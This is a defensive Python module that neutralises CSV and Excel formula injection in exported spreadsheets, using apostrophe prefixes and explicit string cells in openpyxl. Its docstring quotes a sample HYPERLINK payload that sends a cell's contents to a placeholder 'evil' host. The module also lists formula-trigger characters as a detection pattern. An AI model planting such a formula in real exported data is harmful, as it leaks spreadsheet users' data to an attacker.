"""Formula-safe cells for every spreadsheet and CSV that leaves the system (OWASP "CSV injection").

A value typed into a name or address field (``=HYPERLINK("http://evil/?"&A1,"点击")``) must never come
back to an office computer as a live formula. Only *text* is neutralised: genuine numbers (``-5``,
``-0.5``) stay numbers, and dates stay dates.

- CSV: a text cell starting with ``= + - @``, TAB, CR or their full-width forms gets a leading
  apostrophe, so Excel/WPS show it as text (the OWASP recommendation).
- .xlsx: such a text cell is written as an explicit string cell (``t="inlineStr"``), never ``<f>``;
  Excel does not evaluate string cells, so the value is kept exactly as typed.
"""

from typing import Any

# Characters that make Excel, WPS or LibreOffice read a cell as a formula or a DDE command; the
# full-width forms are included because IMEs produce them and some spreadsheet versions normalise them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def is_risky(value: Any) -> bool:
    """True for text a spreadsheet could read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_safe(value: Any) -> Any:
    """A value for a CSV cell: risky text gets a leading apostrophe; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_row(row: list[Any]) -> list[Any]:
    """A CSV row with every text cell neutralised and None as an empty cell."""
    return ["" if v is None else csv_safe(v) for v in row]


def xlsx_row(ws: Any, row: list[Any]) -> list[Any]:
    """A row for openpyxl's ``ws.append``: risky text becomes an explicit string cell (never a formula).

    Works for write-only worksheets (``WriteOnlyCell``) and normal ones (the value is set as a string
    cell of that worksheet when appended). Other values pass through, so numbers stay numbers.
    """
    out: list[Any] = row
    for i, v in enumerate(row):
        if v.__class__ is str and v.startswith(FORMULA_TRIGGERS):
            if out is row:
                out = list(row)
            out[i] = string_cell(ws, v)
    return out


def string_cell(ws: Any, value: str) -> Any:
    """An openpyxl cell holding `value` as text whatever its first character."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=None)
    cell._value = value
    cell.data_type = "s"
    return cell
